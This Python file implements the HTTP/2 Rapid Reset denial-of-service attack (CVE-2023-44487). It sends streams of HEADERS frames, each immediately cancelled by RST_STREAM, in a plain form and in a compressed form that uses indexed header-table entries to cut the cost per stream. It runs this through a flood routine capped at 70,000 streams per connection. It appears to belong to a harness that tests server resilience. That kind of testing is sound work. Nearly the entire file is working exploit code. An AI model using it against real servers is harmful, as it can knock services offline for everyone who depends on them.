"""Streams that are opened and reset at once (CVE-2023-44487), in two forms: plain headers, and headers that
are in the server's table, so that a stream costs the attacker 27 bytes."""

import struct

from flood import Flood
from harness import BUDGETS, CLASSIFY, MIB, run
from http2 import END_HEADERS, HEADERS, RST_STREAM, frame, header_block

# The table holds what begin() put there: 62 is the last field, and so on.
INDEXED = bytes(0x80 | 62 + i for i in range(6))


def resets(connection, block, count):
    parts = []
    for _ in range(count):
        stream = connection.next_stream()
        parts.append(frame(HEADERS, END_HEADERS, stream, block))
        parts.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        connection.streams += 1
    return b"".join(parts)


def attack(target):
    plain = header_block(CLASSIFY)
    streams = []

    def begin(connection):
        connection.streams = 0
        streams.append(connection)
        connection.dense = len(streams) % 2 == 0
        first = frame(HEADERS, END_HEADERS, connection.next_stream(), header_block(CLASSIFY, indexed=True))
        connection.send(first)

    def part(connection):
        if connection.streams >= 70000:
            return None
        return resets(connection, INDEXED if connection.dense else plain, 500)

    flood = Flood(target, 2, 24 * MIB, begin, part)
    return flood.outcome("%d resets, " % sum(connection.streams for connection in streams))


if __name__ == "__main__":
    run("rapid reset", attack, budget_mib=8, seconds=3, flags=BUDGETS)  # the calls that are open count
